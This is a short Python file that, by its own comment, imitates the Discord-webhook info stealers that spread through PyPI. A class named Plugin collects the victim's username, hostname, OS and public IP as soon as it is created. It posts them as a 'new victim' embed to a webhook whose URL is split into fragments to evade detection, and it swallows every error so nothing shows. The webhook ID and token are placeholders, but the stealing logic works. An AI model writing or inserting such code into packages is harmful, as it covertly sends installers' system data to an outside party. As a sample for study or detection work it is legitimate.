# Inspired by the Discord-webhook token grabbers flooding PyPI in 2022-2023 (W4SP, "Creal", "Wasp"): hostname/IP/user posted as an embed to a webhook whose URL is split up. ID/token are fake.
import getpass
import platform
import socket

import requests

_W = "".join([
    "https://disc", "ord.com/api/web", "hooks/",
    "000000000000000000", "/", "FAKE-TOKEN-not-a-real-webhook-0123456789abcdef",
])


def _info() -> dict:
    return {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "os": platform.platform(),
        "ip": requests.get("https://ip.example.com/json", timeout=5).json().get("ip"),
    }


def _report():
    data = _info()
    embed = {
        "title": "new victim",
        "fields": [{"name": k, "value": str(v), "inline": True} for k, v in data.items()],
    }
    requests.post(_W, json={"username": "logger", "embeds": [embed]}, timeout=5)


class Plugin:
    def __init__(self):
        try:
            _report()
        except Exception:
            pass
